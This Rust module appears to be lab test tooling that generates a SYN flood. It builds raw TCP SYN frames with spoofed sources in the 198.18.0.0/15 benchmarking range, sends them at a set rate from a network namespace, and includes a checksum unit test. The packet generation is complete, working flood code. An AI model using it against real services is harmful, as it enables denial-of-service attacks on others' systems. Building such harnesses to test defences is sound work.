//! A SYN flood: raw frames from random sources, as fast as one core makes them.

use std::{
    io, mem,
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsRawFd as _, OwnedFd},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result};

use crate::{
    device::{hardware_address, packet_socket},
    topology::Host,
};

/// Frames given to the kernel at once: a veth with an XDP program queues 256 and drops what comes on top.
const BATCH: usize = 64;
/// Ethernet, IPv4 without options, TCP with a segment size.
const FRAME: usize = 14 + 20 + 24;

/// What flood to make.
#[derive(Debug, Clone, Copy)]
pub struct Flood {
    /// The service.
    pub to: SocketAddrV4,
    /// How many SYNs.
    pub count: u64,
    /// How many of them each source sends, one after the other: from 1 to 64.
    pub copies: usize,
    /// SYNs a second.
    pub rate: u32,
}

/// A flood that has ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FloodReport {
    /// SYNs that the device took.
    pub sent: u64,
    /// From the first to the last.
    pub took: Duration,
}

/// A flood under way. Dropping it ends it.
#[derive(Debug)]
pub struct Flooding {
    sent: Arc<AtomicU64>,
    stop: Arc<AtomicBool>,
    worker: Option<JoinHandle<Result<FloodReport>>>,
}

impl Flood {
    /// Starts it from `from`'s `eth0`, straight to the network card of `next_hop`.
    ///
    /// Sources are random ports of 198.18.0.0/15 (RFC 2544), to which no host of a lab has a route: answers stop at
    /// the servers.
    pub fn start(self, from: &Host, next_hop: &Host) -> Result<Flooding> {
        let source_mac = hardware_address(&from.netns, "eth0")?;
        let target_mac = hardware_address(&next_hop.netns, "eth0")?;
        let socket = from.netns.run(|| packet_socket("eth0", 0))?.context("open a raw socket")?;
        let (sent, stop) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicBool::new(false)));
        let (for_sent, for_stop) = (Arc::clone(&sent), Arc::clone(&stop));
        let worker = thread::spawn(move || {
            let start = Instant::now();
            let mut random = fastrand::Rng::new();
            let mut frames = [[0; FRAME]; BATCH];
            let mut total = 0;
            while total < self.count && !for_stop.load(Ordering::Relaxed) {
                let length = BATCH.min((self.count - total) as usize);
                for twins in frames[..length].chunks_mut(self.copies) {
                    let from = random_source(&mut random);
                    twins.fill(syn(source_mac, target_mac, from, self.to, random.u32(..)));
                }
                send_all(&socket, &frames[..length]).context("send a raw frame")?;
                total += length as u64;
                for_sent.store(total, Ordering::Relaxed);
                let due = start + Duration::from_secs_f64(total as f64 / f64::from(self.rate.max(1)));
                thread::sleep(due.saturating_duration_since(Instant::now()));
            }
            Ok(FloodReport { sent: total, took: start.elapsed() })
        });
        Ok(Flooding { sent, stop, worker: Some(worker) })
    }
}

impl Flooding {
    /// SYNs sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Whether all are sent, or it failed.
    pub fn has_ended(&self) -> bool {
        self.worker.as_ref().is_none_or(JoinHandle::is_finished)
    }

    /// Waits for the last one.
    pub fn wait(mut self) -> Result<FloodReport> {
        let worker = self.worker.take().context("the flood was waited for")?;
        worker.join().unwrap_or_else(|panic| std::panic::resume_unwind(panic))
    }
}

impl Drop for Flooding {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(worker) = self.worker.take() {
            // Whoever wanted its result has called `wait`.
            let _ = worker.join();
        }
    }
}

fn random_source(random: &mut fastrand::Rng) -> SocketAddrV4 {
    let address = u32::from(Ipv4Addr::new(198, 18, 0, 0)) | random.u32(..1 << 17);
    SocketAddrV4::new(address.into(), random.u16(1024..))
}

/// A SYN with right checksums.
fn syn(
    source_mac: [u8; 6],
    target_mac: [u8; 6],
    from: SocketAddrV4,
    to: SocketAddrV4,
    sequence: u32,
) -> [u8; FRAME] {
    let mut frame = [0; FRAME];
    frame[..6].copy_from_slice(&target_mac);
    frame[6..12].copy_from_slice(&source_mac);
    frame[12..14].copy_from_slice(&[0x08, 0x00]);
    let ip = &mut frame[14..34];
    // Version 4 and 5 words; don't fragment; 64 hops; TCP.
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&((FRAME - 14) as u16).to_be_bytes());
    ip[6..10].copy_from_slice(&[0x40, 0, 64, 6]);
    ip[12..16].copy_from_slice(&from.ip().octets());
    ip[16..20].copy_from_slice(&to.ip().octets());
    let sum = checksum(0, ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    let tcp = &mut frame[34..];
    tcp[..2].copy_from_slice(&from.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    // 6 words, SYN, a window of 64,240 and the option for segments of 1,460.
    tcp[12..16].copy_from_slice(&[0x60, 0x02, 0xfa, 0xf0]);
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
    let pseudo = sum_words(&from.ip().octets()) + sum_words(&to.ip().octets()) + 6 + tcp.len() as u32;
    let sum = checksum(pseudo, tcp);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    frame
}

fn sum_words(bytes: &[u8]) -> u32 {
    bytes.chunks(2).map(|word| u32::from(u16::from_be_bytes([word[0], *word.get(1).unwrap_or(&0)]))).sum()
}

/// RFC 1071, over `bytes` and what is already summed.
fn checksum(already: u32, bytes: &[u8]) -> u16 {
    let mut sum = already + sum_words(bytes);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// Sends them all; waits while the device takes none.
fn send_all(socket: &OwnedFd, frames: &[[u8; FRAME]]) -> io::Result<()> {
    let iovec =
        |frame: &[u8; FRAME]| libc::iovec { iov_base: frame.as_ptr().cast_mut().cast(), iov_len: FRAME };
    let mut iovecs: Vec<_> = frames.iter().map(iovec).collect();
    let message = |iovec: &mut libc::iovec| {
        // SAFETY: all-zero bytes are a valid mmsghdr: no name, no control data.
        let mut message: libc::mmsghdr = unsafe { mem::zeroed() };
        message.msg_hdr.msg_iov = iovec;
        message.msg_hdr.msg_iovlen = 1;
        message
    };
    let mut messages: Vec<_> = iovecs.iter_mut().map(message).collect();
    let mut done = 0;
    while done < messages.len() {
        let rest = &mut messages[done..];
        // SAFETY: every message points to one iovec and that to a frame, all of which outlive the call; frames are
        // only read.
        let sent = unsafe { libc::sendmmsg(socket.as_raw_fd(), rest.as_mut_ptr(), rest.len() as u32, 0) };
        match io::Error::last_os_error() {
            _ if sent >= 0 => done += sent as usize,
            error if error.raw_os_error() == Some(libc::ENOBUFS) => thread::yield_now(),
            error if error.kind() == io::ErrorKind::Interrupted => {}
            error => return Err(error),
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_right_checksums_and_sources_are_of_the_test_network() {
        let to = "192.0.2.10:80".parse().unwrap();
        let mut random = fastrand::Rng::with_seed(1);
        for _ in 0..1000 {
            let from = random_source(&mut random);
            assert!(matches!(from.ip().octets(), [198, 18 | 19, ..]), "{from}");
            let frame = syn([2; 6], [3; 6], from, to, random.u32(..));
            // The sum over everything, the checksum included, is 0.
            assert_eq!(checksum(0, &frame[14..34]), 0);
            let pseudo = sum_words(&frame[26..34]) + 6 + 24;
            assert_eq!(checksum(pseudo, &frame[34..]), 0);
        }
    }
}
